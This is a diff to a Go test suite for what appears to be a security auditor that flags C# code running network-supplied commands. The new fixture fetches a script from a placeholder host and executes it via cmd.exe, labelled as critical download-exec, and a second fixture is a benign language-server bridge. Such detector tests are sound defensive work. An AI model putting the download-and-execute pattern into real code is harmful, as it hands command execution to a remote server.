@@ -10,10 +10,12 @@ import (
 // (a TcpClient's lines, a Socket's or WebSocket's bytes, an HttpClient
 // answer polled in a loop) in a process is a remote shell, critical,
 // however the data travels (locals, a loop condition, a buffer a read
-// fills, a helper method's parameter, a shell's standard input). A fixed
-// program given an argument a server chose is medium; a connection that
-// only ships logs, a process whose output alone goes to the connection,
-// and a shell fed the user's own console input are not findings.
+// fills, a helper method's parameter, a shell's standard input); an HTTP
+// answer run once in a shell is critical download-exec. A fixed program
+// given an argument a server chose is medium; a connection that only
+// ships logs, a process whose output alone goes to the connection, a
+// language server (not a shell) fed a socket's lines on its input, and a
+// shell fed the user's own console input are not findings.
 func TestCSharpRemoteCommands(t *testing.T) {
 	const head = "using System;\nusing System.Diagnostics;\nusing System.IO;\nusing System.Net.Http;\nusing System.Net.Sockets;\nusing System.Net.WebSockets;\nusing System.Text;\nusing System.Threading;\nusing System.Threading.Tasks;\n\n"
 	for _, c := range []struct {
@@ -122,6 +124,16 @@ while (true)
     }
 }
 `, "reverse-shell", 24, audit.Critical},
+		{"http-answer-once", "src/Setup.cs", head + `class Setup
+{
+    static async Task Main()
+    {
+        using var http = new HttpClient();
+        var script = await http.GetStringAsync("https://setup.example/steps.txt");
+        Process.Start("cmd.exe", "/c " + script).WaitForExit();
+    }
+}
+`, "download-exec", 17, audit.Critical},
 		{"version-argument", "src/Update.cs", head + `class Update
 {
     static async Task Main()
@@ -181,6 +193,23 @@ while (true)
         while ((line = Console.ReadLine()) != null)
         {
             Process.Start(new ProcessStartInfo("cmd.exe", "/c " + line)).WaitForExit();
+        }
+    }
+}
+`},
+		{"language-server-stdin", head + `class Bridge
+{
+    static void Main()
+    {
+        var listener = new TcpListener(System.Net.IPAddress.Loopback, 7658);
+        listener.Start();
+        var client = listener.AcceptTcpClient();
+        var reader = new StreamReader(client.GetStream());
+        var server = Process.Start(new ProcessStartInfo("dotnet", "lsp/Server.dll") { RedirectStandardInput = true });
+        string msg;
+        while ((msg = reader.ReadLine()) != null)
+        {
+            server.StandardInput.WriteLine(msg);
         }
     }
 }
